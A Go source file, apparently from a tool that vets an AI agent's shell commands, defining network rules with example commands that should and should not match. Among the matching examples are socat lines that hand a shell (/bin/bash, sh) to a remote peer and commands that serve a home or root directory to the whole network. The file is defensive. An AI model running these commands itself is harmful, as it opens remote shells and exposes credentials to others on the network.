package catalogue

import (
	"strings"

	"github.com/agent-loop/shimgen/grammar"
	"github.com/agent-loop/shimgen/grammar/spec"
	"github.com/agent-loop/shimgen/rules"
)

// developed are the programs whose servers people start to look at their own work. Such a port
// exposes only what the code behind it does, and that code is judged separately.
const developed = "http.server httpd python php ruby node deno bun"

// builtSites returns options of a server of files with a directory that builds and reports of tests write to be
// looked at.
func builtSites() string {
	all := []string{"-d=dist/*", "-d=build/*", "-d=coverage/*", "-d=*_build/html", "-d=*_build/html/", "-d=target/doc"}
	for _, name := range [...]string{"dist", "build", "public", "out", "_site", "site", "htmlcov", "coverage", "storybook-static", "book"} {
		all = append(all, "-d="+name, "-d="+name+"/", "-d=./"+name, "-d=./"+name+"/")
	}
	return strings.Join(all, " ")
}

// net are the rules about hosts and ports.
var net = []rules.Rule{
	{
		ID: "net.host", Class: rules.Network, Effect: grammar.Connects, Zone: rules.Foreign,
		Reason: "talks to a host that the policy does not allow",
		Hint:   "ask the user to add the host to network.allowed_domains",
	},
	{
		ID: "net.listen", Class: rules.Exposure, Effect: grammar.Listens, Zone: rules.Public, Except: developed,
		Reason: "listens on every interface of the machine",
		Hint:   "listen on 127.0.0.1",
		Hits:   []string{"nc -l 8080", "ncat -lk 9000", "nc -l -p 1", "nc -l 0.0.0.0 80", "ssh -L 0.0.0.0:80:h:80 h", "ssh -D :1080 h"},
		Misses: []string{"nc -l 127.0.0.1 8080", "nc -l localhost 80", "nc h 80", "ssh -L 8080:localhost:80 h", "nc -lU /tmp/s"},
	},
	{
		ID: "net.serve-build", Class: rules.Exposure, Mild: true, Program: "http.server", Any: builtSites(), Effect: grammar.Listens, Zone: rules.Public,
		Reason: "serves what a build made to everyone on the network",
		Hint:   "listen on 127.0.0.1",
		Hits:   []string{"python3 -m http.server 8000 -d dist", "python3 -m http.server --directory docs/_build/html", "python3 -m http.server -d htmlcov", "python3 -m http.server -d ./site/"},
		Misses: []string{"python3 -m http.server", "python3 -m http.server -d . 8000", "python3 -m http.server -d dist -b 127.0.0.1"},
	},
	{
		ID: "net.serve", Class: rules.Exposure, Program: developed, None: builtSites(), Effect: grammar.Listens, Zone: rules.Public,
		Reason: "answers everybody on the network",
		Hint:   "listen on 127.0.0.1",
		Hits:   []string{"python3 -m http.server", "python3 -m http.server 8000", "python3 -m http.server -d src 80", "php -S 0.0.0.0:8000"},
		Misses: []string{"python3 -m http.server --help", "python3 -m http.server -d dist", "python3 -m http.server -b 127.0.0.1 8000", "php -S localhost:8000", "nc -l 8080"},
	},
	{
		ID: "secrets.serve-home", Former: "secrets.serve", Class: rules.Secrets, Program: "http.server httpd", Effect: grammar.Listens, Zone: rules.Root | rules.Home | rules.Secret,
		Reason: "shows a whole home directory, credentials and all, to everybody on the network",
		Hint:   "start it in the directory that is meant",
		Hits:   []string{"python3 -m http.server -d ~", "cd / && python3 -m http.server 8000", "cd ~ && python3 -m http.server", "python3 -m http.server --directory=/"},
		Misses: []string{"python3 -m http.server", "python3 -m http.server -d ~ --bind 127.0.0.1", "cd site && python3 -m http.server 8000"},
	},
	{
		ID: "net.forward-ports", Former: "net.gateway", Class: rules.Exposure, Program: "ssh", Any: "-g",
		Reason: "lets other machines use the ports it forwards",
		Hint:   "leave -g away",
		Hits:   []string{"ssh -g -L 8080:h:80 h"},
		Misses: []string{"ssh -L 8080:h:80 h", "ssh h ls -g"},
	},
	{
		ID: "net.config", Class: rules.Escape, Program: "curl wget", Any: "-K --config",
		Reason: "takes its URLs, its files and what it sends from a file that is not read here",
		Hint:   "give the options themselves",
		Hits:   []string{"curl -K cfg", "curl --config - http://h/", "wget --config=x http://h/"},
		Misses: []string{"curl -k http://h/", "wget http://h/"},
	},
	{
		ID: "net.setting", Class: rules.Escape, Program: "wget", Effect: grammar.Sets, Name: "use_askpass output_document dir_prefix logfile post_file body_file input",
		Reason: "sets by a line of configuration what it runs, reads or writes",
		Hint:   "use the option of that name",
		Hits:   []string{"wget -e use_askpass=./x http://h/", "wget --execute 'output_document = /etc/x' http://h/"},
		Misses: []string{"wget -e robots=off http://h/", "wget http://h/"},
	},
	{
		ID: "net.relay", Class: rules.RemoteCode, Program: "socat", Effect: grammar.Connects | grammar.Listens, Role: spec.Code,
		Operand: "EXEC:* exec:* Exec:* SYSTEM:* system:* System:* SHELL:* shell:* Shell:*",
		Reason:  "gives a program to whoever is at the other end",
		Hint:    "connect two sockets, or a socket and a file",
		Hits:    []string{"socat TCP:h:1 EXEC:sh", "socat tcp-listen:80,fork,reuseaddr exec:/bin/bash,pty"},
		Misses:  []string{"socat - TCP:h:80", "socat TCP-LISTEN:80,bind=127.0.0.1 TCP:h:80", "socat - EXEC:ls"},
	},
	{
		ID: "net.strict", Class: rules.Network, Floored: true, Least: rules.Block, Strict: true, Program: "ssh scp nc ncat",
		Reason: "is not available in strict mode",
		Hint:   "leave the network alone, or ask the user",
	},
}
